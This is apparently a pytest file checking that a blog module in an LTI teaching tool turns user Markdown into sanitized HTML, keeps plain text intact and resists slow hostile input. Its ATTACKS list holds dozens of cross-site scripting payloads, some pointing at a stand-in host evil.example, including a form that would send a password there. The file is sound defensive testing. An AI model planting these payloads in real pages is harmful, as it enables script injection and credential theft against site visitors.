"""What people write becomes HTML that is safe to show, and plain text keeps every character."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lti_tool.blog.text import UNDER_A_TITLE, checked, safe_html, safe_line, shown, word_count
from lti_tool.errors import Rejected

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>x</ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><script>1</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="data:text/html,x"></object><embed src=x>',
    '<a href="javascript:alert(1)">x</a>',
    '<p style="position:fixed" onmouseover=alert(1)>x</p>',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/pixel.gif "x" onerror=alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "\\"><script>alert(1)</script>")',
    '[x](https://a.example "\\" onmouseover=alert(1)")',
    "`<script>alert(1)</script>`",
    "```html onload=x\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "# <h1 onclick=alert(1)>x",
    "https://a.example/\"onmouseover=alert(1)//",
    "javascript:alert(1)//https://a.example",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "\u202e<script>\u202calert(1)",
    "\ufeff<script>alert(1)</script>",
)  # fmt: skip
ALLOWED_TAGS = {
    "p", "br", "em", "strong", "s", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "target", "rel"}, "ol": {"start"}}


class Elements(HTMLParser):
    """The elements of a piece of HTML with their attributes, and its text, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("declaration", {}))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set())
        if tag == "a":
            assert (attributes.get("href") or "https:").split(":")[0] in {"http", "https", "mailto"}
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer nofollow ugc"


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_comes_through(attack: str) -> None:
    for html in (safe_html(attack), safe_html(f"Before *{attack}* after"), safe_html(attack, plain=True)):
        assert_harmless(html)
    assert_harmless(safe_line(attack))


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "*", "_", "`", "\n", "\n\n", "> ", "- ", "|", "[", "](", ")", "a "]), max_size=8
    )
)
def test_nothing_harmful_comes_through_in_any_mixture(parts: list[str]) -> None:
    assert_harmless(safe_html("".join(parts)))
    assert_harmless(safe_html("".join(parts), plain=True))
    assert_harmless(safe_line("".join(parts)))


@pytest.mark.parametrize(
    "text",
    [
        "5 < 6 & 7 > 3, \"quoted\" and 'so'",
        "*stars* _lines_ `ticks` ~~waves~~ **two**",
        "# not a heading\n- not a list\n1. nor this\n> nor a quotation",
        "[not](a link) ![nor](a picture)",
        "backslash \\* and entity &amp; &lt; &#42; stay",
        "| a | b |\n|---|---|\n| c | d |",
        "Ünïcödé, 日本語, Ёлка, \U0001f600, e\u0301",
        "<script>alert(1)</script>",
        "one line\nanother\n\nanother paragraph\n---\nunder a line",
        "https://example.edu/a_b_c?x=1&y=<2>",
        "see https://example.edu/caf%C3%A9%20bar (and www.example.edu/%7Eme).",
        "\\[x\\]: https://example.edu 'title'",
        "    four spaces before\n\ttab before",
    ],
)
def test_plain_text_keeps_every_character(text: str) -> None:
    assert Elements(safe_html(text, plain=True)).text.split() == text.split()
    assert Elements(safe_line(text.replace("\n", " "))).text.split() == text.split()


@settings(deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from("*_`<>&[]()#\n|~\\"), max_size=60))
def test_plain_text_keeps_every_character_of_any_text(text: str) -> None:
    assert Elements(safe_html(text, plain=True)).text.split() == text.split()


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a *b* **c**", "<p>a <em>b</em> <strong>c</strong></p>"),
        ("a ~~b~~", "<p>a <s>b</s></p>"),
        ("one\ntwo\n\nthree", "<p>one<br>\ntwo</p>\n<p>three</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("# a", "<h4>a</h4>"),
        ("#### a", "<h4>a</h4>"),
        ("###### a", "<h4>a</h4>"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("![A map](image:abc_D-1)", '<p><img src="image:abc_D-1" alt="A map"></p>'),
        ("a <b>c</b>", "<p>a &lt;b&gt;c&lt;/b&gt;</p>"),
    ],
)
def test_what_markdown_can_say(text: str, html: str) -> None:
    assert safe_html(text).strip() == html


@pytest.mark.parametrize(("text", "words"), [("![a map](https://a.example/b.png)", "a map"),
                                              ("![](https://a.example/b.png)", "https://a.example/b.png")])  # fmt: skip
def test_a_picture_from_elsewhere_is_a_link(text: str, words: str) -> None:
    """Shown, it would tell its owner who reads."""
    html = Elements(safe_html(text))
    assert [tag for tag, _ in html.found] == ["p", "a"]
    assert html.found[1][1]["href"] == "https://a.example/b.png"
    assert html.text.strip() == words


@pytest.mark.parametrize(
    "text", ["![](image:abc)", "![  ](image:abc)", "a\n\n> ![](image:abc)", "x[^1]\n\n[^1]: ![](image:a)"]
)
def test_a_picture_says_what_it_shows(text: str) -> None:
    with pytest.raises(Rejected, match="cannot see it") as refused:
        safe_html(text)
    assert refused.value.kept == text
    assert "[" in Elements(safe_html(text, plain=True)).text  # what was brought in is no Markdown


@pytest.mark.parametrize(
    "text",
    ["[x](image:abc)", "[x](IMAGE:abc)", "![x](image:../../desk)", "![x](image:a?b=c)", '![x"onerror=y](image:a"b)',
     '![a" onerror="alert(1)](image:abc)', "![<b>](image:abc)", "[![a](image:abc)](javascript:alert(1))"],
)  # fmt: skip
def test_only_a_key_names_a_picture(text: str) -> None:
    for tag, attributes in Elements(safe_html(text)).found:
        assert tag in {"p", "a", "img"}
        assert set(attributes) <= {"href", "target", "rel", "src", "alt"}
        assert attributes.get("src", "image:abc") == "image:abc"
        assert not (attributes.get("href") or "").lower().startswith(("image:abc", "javascript:"))


def test_a_picture_gets_its_address_when_it_is_shown() -> None:
    stored = safe_html('![A map](image:abc) and the words <img src="image:abc"')
    html = Elements(shown(stored, "/v/VISIT/images?key=", "c7"))
    assert [attributes for tag, attributes in html.found if tag == "img"] == [
        {"loading": "lazy", "src": "/v/VISIT/images?key=abc", "alt": "A map"}
    ]
    assert 'the words <img src="image:abc"' in html.text
    assert shown("<p>Nothing of this.</p>", "/v/VISIT/images?key=", "c7") == "<p>Nothing of this.</p>"


def test_a_table() -> None:
    tags = [tag for tag, _ in Elements(safe_html("| a | b |\n|:--|--:|\n| c | d |")).found]
    assert tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("[a](https://example.edu)", "https://example.edu"),
        ("<https://example.edu/x>", "https://example.edu/x"),
        ("see https://example.edu/x.", "https://example.edu/x"),
        ("see www.example.edu", "http://www.example.edu"),
        ("write to me@example.edu", "mailto:me@example.edu"),
    ],
)
def test_links_open_beside_the_lms_and_vouch_for_nothing(text: str, address: str) -> None:
    ((_, attributes),) = [one for one in Elements(safe_html(text)).found if one[0] == "a"]
    assert attributes == {"href": address, "target": "_blank", "rel": "noopener noreferrer nofollow ugc"}


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "](", "*", "_", "**a ", "`", "> ", "- ", "1. ", "<", "&", "|", "~~", "\\", "(", "a@", "http://", "www.",
     "[a](", "<a ", "\n", "  \n", "\t", "*a_", "[[]", "é", "\u0301", "![[", "<!--", "|a\n|-\n", "-\n "],
)  # fmt: skip
def test_hostile_texts_come_to_an_end(piece: str) -> None:
    text = (piece * 10_000)[:10_000]
    began = time.process_time()
    assert_harmless(safe_html(text))
    safe_html(text, plain=True)
    safe_line(text)
    assert time.process_time() - began < 5, "a comment must not stop a server"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", 0),
        ("one", 1),
        ("one, two - three", 3),
        ("don't", 1),
        ("— … *", 0),
        ("日本 語", 2),
        ("a\nb\tc", 3),
        ("3 %", 1),
    ],
)
def test_words_are_counted(text: str, words: int) -> None:
    assert word_count(text) == words


def test_checked_text() -> None:
    assert checked(" a\r\nb\rc\x00 ", 10) == "a\nb\nc"
    assert checked("x" * 10, 10) == "x" * 10
    with pytest.raises(Rejected):
        checked("x" * 11, 10)


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# a\n## b\n# c", "454"),
        ("### a\n# b\n###### c", "445"),
        ("# a\n###### b", "45"),
        ("# a\n## b\n### c\n#### d", "4566"),
    ],
)
def test_headings_stand_below_the_comments_and_leave_none_out(text: str, levels: str) -> None:
    assert "".join(re.findall(r"<h(\d)>", safe_html(text))) == levels
    assert min(re.findall(r"<h(\d)>", safe_html(text, under=UNDER_A_TITLE))) == "2"
